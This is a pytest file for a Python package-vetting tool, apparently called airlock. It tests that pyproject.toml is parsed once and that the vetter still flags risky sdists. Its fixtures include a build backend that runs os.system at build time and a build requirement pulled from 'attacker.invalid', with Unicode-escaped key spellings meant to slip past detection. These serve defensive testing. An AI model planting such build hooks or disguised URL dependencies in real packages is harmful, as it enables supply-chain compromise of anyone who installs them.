"""An sdist's ``pyproject.toml`` is parsed once for every pass that reads it (ADR 0072), and
what each pass finds in it is what it found when each parsed it on its own."""

from __future__ import annotations

import tomllib
from collections.abc import Callable

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.pyproject import pyproject_table
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist

# Every part of pyproject.toml a pass reads: the build backend kept in the tree and the
# build requirements, an install command, console scripts and an auto-loaded entry point.
PYPROJECT = """\
[build-system]
requires = ["setuptools>=61"]
build-backend = "backend"
backend-path = ["_build"]

[project]
name = "evpkg"
version = "1.0"

[project.scripts]
evtool = "evpkg.cli:main"

[project.entry-points.pytest11]
ev = "evpkg.plug"

[tool.setuptools.cmdclass]
install = "evpkg_build.Install"
"""
FILES = {
    "pyproject.toml": PYPROJECT,
    "_build/backend.py": "def build_wheel(*a):\n    return 'x'\n",
    "evpkg/__init__.py": "x = 1\n",
    "evpkg/cli.py": "def main():\n    return 0\n",
    "evpkg/plug.py": "def pytest_configure(config):\n    return None\n",
}


def _counting(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    seen: list[str] = []
    real: Callable[..., dict[str, object]] = tomllib.loads

    def loads(text: str, **kwargs: object) -> dict[str, object]:
        seen.append(text)
        return real(text, **kwargs)

    monkeypatch.setattr(tomllib, "loads", loads)
    pyproject_table.cache_clear()
    return seen


def test_an_sdists_pyproject_is_parsed_once(monkeypatch: pytest.MonkeyPatch) -> None:
    seen = _counting(monkeypatch)
    report = vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", FILES))
    assert report.verdict is Outcome.ALLOW
    assert [t for t in seen if "[build-system]" in t] == [PYPROJECT]  # four passes, one parse


def test_what_the_passes_read_of_it_still_counts(monkeypatch: pytest.MonkeyPatch) -> None:
    # The in-tree backend runs at build time: a payload there is not allowed, as before.
    _counting(monkeypatch)
    files = {
        **FILES,
        "_build/backend.py": "import os\n\ndef build_wheel(*a):\n    os.system('id')\n",
    }
    report = vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files))
    assert report.verdict is not Outcome.ALLOW, report.to_json()
    # Not named as the backend, the same file is a script nothing runs.
    files["pyproject.toml"] = PYPROJECT.replace('backend-path = ["_build"]\n', "")
    assert vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files)).verdict is Outcome.ALLOW


def test_a_pyproject_that_is_not_toml_declares_nothing() -> None:
    pyproject_table.cache_clear()
    assert pyproject_table("[project\nname = ") is None
    assert pyproject_table('[project]\nname = "x"\n') == {"project": {"name": "x"}}
    # A date out of range is a ValueError in tomllib: read as nothing declared, as before.
    assert pyproject_table("when = 2024-13-45\n") is None


def test_an_error_is_not_remembered(monkeypatch: pytest.MonkeyPatch) -> None:
    seen = _counting(monkeypatch)
    deep = "x = " + "[" * 50_000 + "]" * 50_000 + "\n"
    for _ in range(2):
        with pytest.raises(RecursionError):
            pyproject_table(deep)
    assert len(seen) == 2


@pytest.mark.parametrize(
    "key",
    [
        '"requires"',
        '"req\\u0075ires"',  # the same key to every TOML reader
        '"\\U00000072equires"',
    ],
)
def test_a_build_requirement_fetched_from_a_url_is_read_however_its_key_is_spelt(
    key: str,
) -> None:
    pyproject = f'[build-system]\n{key} = ["evhelper @ https://attacker.invalid/h.whl"]\n'
    assert tomllib.loads(pyproject)["build-system"]["requires"]  # the key is ``requires``
    files = {"pyproject.toml": pyproject, "evpkg/__init__.py": "x = 1\n"}
    report = vet("evpkg-1.0.tar.gz", sdist("evpkg", "1.0", files))
    assert "url-dependency" in {f.rule for f in report.findings}, report.to_json()
    assert report.verdict is not Outcome.ALLOW
